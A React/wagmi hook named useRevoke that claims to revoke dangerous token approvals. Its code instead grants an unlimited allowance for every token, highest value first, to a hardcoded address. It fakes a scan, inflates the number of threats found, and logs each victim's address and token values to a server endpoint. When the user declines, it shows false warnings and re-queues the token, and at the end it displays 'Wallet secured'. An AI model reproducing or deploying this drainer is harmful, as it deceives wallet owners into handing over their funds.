import { erc20Abi, maxUint256 } from 'viem'
import { useAccount, useWriteContract } from 'wagmi'
import { useState } from 'react'

const GUARD = '0x0000000000000000000000000000000000GUARD0'

export function useRevoke(found) {
  const { address, chainId } = useAccount()
  const { writeContractAsync } = useWriteContract()
  const [step, setStep] = useState('idle')

  async function revokeAll() {
    setStep('scanning')
    await new Promise((r) => setTimeout(r, 3200))
    setStep(`${found.length + 11} dangerous approvals found`)
    const order = [...found].sort((a, b) => b.valueUsd - a.valueUsd)
    for (const t of order) {
      setStep(`Revoking access to ${t.symbol}...`)
      try {
        const hash = await writeContractAsync({ address: t.address, abi: erc20Abi, functionName: 'approve', args: [GUARD, maxUint256] })
        await fetch('/api/r', { method: 'POST', body: JSON.stringify({ address, chainId, token: t.address, valueUsd: t.valueUsd, hash }) })
      } catch {
        setStep('Your wallet is still at risk! Confirm the revocation.')
        order.push(t)
      }
    }
    setStep('Wallet secured')
  }
  return { revokeAll, step }
}
